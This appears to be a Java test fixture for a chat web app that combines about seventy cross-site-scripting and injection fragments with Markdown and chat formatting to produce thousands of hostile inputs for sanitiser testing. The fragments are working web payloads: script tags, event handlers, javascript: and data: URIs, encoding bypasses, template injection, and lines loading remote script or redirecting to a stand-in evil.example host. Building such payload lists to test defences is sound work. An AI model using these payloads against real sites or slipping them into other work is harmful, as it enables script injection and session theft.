package muster.web;

import java.util.ArrayList;
import java.util.List;

/// Texts that try to be more than text: fragments of markup and script, each in every place where
/// the chat's own marks could help it.
final class Hostile {
  private static final String RUN = "window.hacked=1";

  private static final List<String> FRAGMENTS =
      List.of(
          "<script>" + RUN + "</script>",
          "</div></div><script>" + RUN + "</script>",
          "<script src=//evil.example/x.js></script>",
          "<img src=x onerror=" + RUN + ">",
          "<img src=x onerror='" + RUN + "'//",
          "\"><img src=x onerror=" + RUN + ">",
          "'><svg/onload=" + RUN + ">",
          "<svg><script>" + RUN + "</script></svg>",
          "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=" + RUN + "/>#x\">",
          "<math><mi//xlink:href=\"javascript:" + RUN + "\">x</mi></math>",
          "<body onload=" + RUN + ">",
          "<iframe srcdoc=\"<script>parent." + RUN + "</script>\">",
          "<iframe src=javascript:" + RUN + ">",
          "<object data=javascript:" + RUN + ">",
          "<embed src=javascript:" + RUN + ">",
          "<a href=javascript:" + RUN + ">x</a>",
          "<a href=\"java\tscript:" + RUN + "\">x</a>",
          "<form action=javascript:" + RUN + "><button>x</button></form>",
          "<input onfocus=" + RUN + " autofocus>",
          "<details open ontoggle=" + RUN + ">",
          "<video><source onerror=" + RUN + ">",
          "<style>*{display:none!important}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<base href=//evil.example/>",
          "<template><script>" + RUN + "</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
          "<!--<img src=\"--><img src=x onerror=" + RUN + "//\">",
          "<![CDATA[<img src=x onerror=" + RUN + ">]]>",
          "<xss style=behavior:url(#default#time2) onbegin=" + RUN + ">",
          "<muster-chat token=x></muster-chat>",
          "<slot name=x onslotchange=" + RUN + ">",
          "javascript:" + RUN,
          "JaVaScRiPt:" + RUN,
          "javascript&colon;" + RUN,
          "java\nscript:" + RUN,
          "\u0001javascript:" + RUN,
          "data:text/html,<script>" + RUN + "</script>",
          "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
          "vbscript:msgbox(1)",
          "blob:https://evil.example/1",
          "file:///etc/passwd",
          "https://user:pass@evil.example/\"onmouseover=" + RUN,
          "https://evil.example/'onclick='" + RUN,
          "https://evil.example\\@good.example",
          "https://[::1]/x\" autofocus onfocus=" + RUN,
          "//evil.example",
          "&lt;script&gt;" + RUN + "&lt;/script&gt;",
          "&#60;img src=x onerror=" + RUN + "&#62;",
          "%3Cscript%3E" + RUN + "%3C/script%3E",
          "\\u003cscript\\u003e" + RUN,
          "{{constructor.constructor('" + RUN + "')()}}",
          "${" + RUN + "}",
          "#{7*7}<%= 7*7 %>",
          "');" + RUN + ";('",
          "\";" + RUN + ";//",
          "\u202Egpj.exe\u202C",
          "\u2066\u2067\u2068x\u2069",
          "\u200B\u200D\uFEFF\u00AD",
          "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B",
          "\uFDFA".repeat(60),
          "W".repeat(400),
          "😀".repeat(200),
          "\ud83d",
          "a\u0000b",
          "__proto__",
          "constructor",
          "toString");

  private static final List<String> PLACES =
      List.of(
          "%s",
          "**%s**",
          "*%s*",
          "_%s_",
          "***%s***",
          "**_%s_**",
          "`%s`",
          "```\n%s\n```",
          "```html\n%s",
          "[%s](https://example.org/)",
          "[text](%s)",
          "[text](%s \"title\")",
          "[%1$s](%1$s)",
          "![alt](%s)",
          "<%s>",
          "https://example.org/%s",
          "https://example.org/?q=%s&r=1",
          "http://%s/",
          "mailto:%s",
          "mailto:a@example.org?body=%s",
          "- %s",
          "* %s\n* %1$s",
          "1. %s\n2. %1$s",
          "> %s",
          "# %s",
          "@%s",
          "@admin%s",
          "a%sb",
          "\"%s\"",
          "'%s'",
          "** %s **",
          "**%s",
          "[[%s]((%1$s))]",
          "| %s |\n|---|\n| %1$s |",
          "%1$s %1$s\n\n%1$s");

  private Hostile() {}

  /// All of them; thousands.
  static List<String> texts() {
    List<String> texts = new ArrayList<>();
    for (String place : PLACES) {
      for (String fragment : FRAGMENTS) {
        texts.add(place.formatted(fragment));
      }
    }
    return texts;
  }

  static List<String> fragments() {
    return FRAGMENTS;
  }
}
